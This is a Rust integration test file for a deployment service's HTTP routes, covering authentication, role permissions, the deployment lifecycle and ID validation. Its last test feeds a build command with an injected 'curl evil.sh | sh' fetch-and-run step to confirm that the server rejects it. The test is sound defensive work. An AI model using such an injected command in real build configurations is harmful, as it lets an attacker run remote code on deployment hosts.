//! HTTP routes against an in-process engine.

mod common;

use std::time::Duration;

use axum::http::StatusCode;
use axum_test::TestServer;
use devroom_core::{DeploymentId, UserId};
use serde_json::{json, Value};

use common::{bearer, TestApp};

/// How long a trivial static deployment may take.
const DEPLOY_TIMEOUT: Duration = Duration::from_secs(10);

fn server(app: &TestApp) -> TestServer {
    TestServer::new(app.router()).unwrap()
}

async fn start(server: &TestServer, app: &TestApp, user: &UserId) -> axum_test::TestResponse {
    let (name, value) = bearer(user);
    server
        .post(&format!("/v1/projects/{}/deployments", app.project_id))
        .add_header(name, value)
        .json(&json!({ "roomId": app.room_id.to_string() }))
        .await
}

async fn wait_for_terminal(server: &TestServer, app: &TestApp, deployment_id: &str) -> Value {
    let (name, value) = bearer(&app.owner);
    let deadline = tokio::time::Instant::now() + DEPLOY_TIMEOUT;
    loop {
        let body: Value = server
            .get(&format!("/v1/deployments/{deployment_id}"))
            .add_header(name.clone(), value.clone())
            .await
            .json();
        if body["status"] == "success" || body["status"] == "failed" {
            return body;
        }
        assert!(
            tokio::time::Instant::now() < deadline,
            "deployment did not finish: {body}"
        );
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
}

#[tokio::test]
async fn health_is_public() {
    let app = TestApp::new();
    let server = server(&app);

    let response = server.get("/health").await;
    response.assert_status_ok();
    let body: Value = response.json();
    assert_eq!(body["status"], "healthy");
    assert_eq!(body["connections"], 0);
}

#[tokio::test]
async fn deployment_routes_require_bearer() {
    let app = TestApp::new();
    let server = server(&app);

    let response = server
        .get(&format!("/v1/projects/{}/deployments", app.project_id))
        .await;
    response.assert_status(StatusCode::UNAUTHORIZED);
    let body: Value = response.json();
    assert_eq!(body["error"]["code"], "unauthenticated");
}

#[tokio::test]
async fn start_and_follow_static_deployment() {
    let app = TestApp::new();
    let server = server(&app);

    let response = start(&server, &app, &app.editor).await;
    response.assert_status(StatusCode::ACCEPTED);
    let started: Value = response.json();
    assert_eq!(started["status"], "pending");
    assert_eq!(started["provider"], "static");
    let deployment_id = started["deploymentId"].as_str().unwrap().to_string();

    let finished = wait_for_terminal(&server, &app, &deployment_id).await;
    assert_eq!(finished["status"], "success", "{finished}");
    assert_eq!(finished["progress"], 100);
    assert_eq!(
        finished["url"],
        format!("http://sites.test/{deployment_id}/")
    );
    let published = app
        .dir
        .path()
        .join("sites")
        .join(&deployment_id)
        .join("index.html");
    assert_eq!(std::fs::read_to_string(published).unwrap(), "<h1>hello</h1>");

    let (name, value) = bearer(&app.viewer);
    let history: Value = server
        .get(&format!(
            "/v1/projects/{}/deployments?limit=5",
            app.project_id
        ))
        .add_header(name, value)
        .await
        .json();
    assert_eq!(history["deployments"][0]["deploymentId"], deployment_id.as_str());

    // Finished deployments cannot be cancelled.
    let (name, value) = bearer(&app.owner);
    let response = server
        .post(&format!("/v1/deployments/{deployment_id}/cancel"))
        .add_header(name, value)
        .await;
    response.assert_status(StatusCode::CONFLICT);
    let body: Value = response.json();
    assert_eq!(body["error"]["code"], "not_applicable");
}

#[tokio::test]
async fn viewer_and_outsider_cannot_start() {
    let app = TestApp::new();
    let server = server(&app);

    let response = start(&server, &app, &app.viewer).await;
    response.assert_status(StatusCode::FORBIDDEN);
    let body: Value = response.json();
    assert_eq!(body["error"]["code"], "forbidden");

    let response = start(&server, &app, &app.outsider).await;
    assert!(matches!(
        response.status_code(),
        StatusCode::FORBIDDEN | StatusCode::NOT_FOUND
    ));

    let (name, value) = bearer(&app.owner);
    let history: Value = server
        .get(&format!("/v1/projects/{}/deployments", app.project_id))
        .add_header(name, value)
        .await
        .json();
    assert_eq!(history["deployments"], json!([]));
}

#[tokio::test]
async fn unknown_and_malformed_ids() {
    let app = TestApp::new();
    let server = server(&app);
    let (name, value) = bearer(&app.owner);

    let response = server
        .get(&format!("/v1/deployments/{}", DeploymentId::generate()))
        .add_header(name.clone(), value.clone())
        .await;
    response.assert_status(StatusCode::NOT_FOUND);

    let response = server
        .get("/v1/deployments/not-an-id")
        .add_header(name, value)
        .await;
    response.assert_status(StatusCode::BAD_REQUEST);
    let body: Value = response.json();
    assert_eq!(body["error"]["code"], "validation");
}

#[tokio::test]
async fn shell_metacharacters_in_build_command_are_rejected() {
    let app = TestApp::new();
    let server = server(&app);
    let (name, value) = bearer(&app.owner);

    let response = server
        .post(&format!("/v1/projects/{}/deployments", app.project_id))
        .add_header(name, value)
        .json(&json!({
            "roomId": app.room_id.to_string(),
            "config": { "buildCommand": "npm run build && curl evil.sh | sh" },
        }))
        .await;
    response.assert_status(StatusCode::BAD_REQUEST);
}
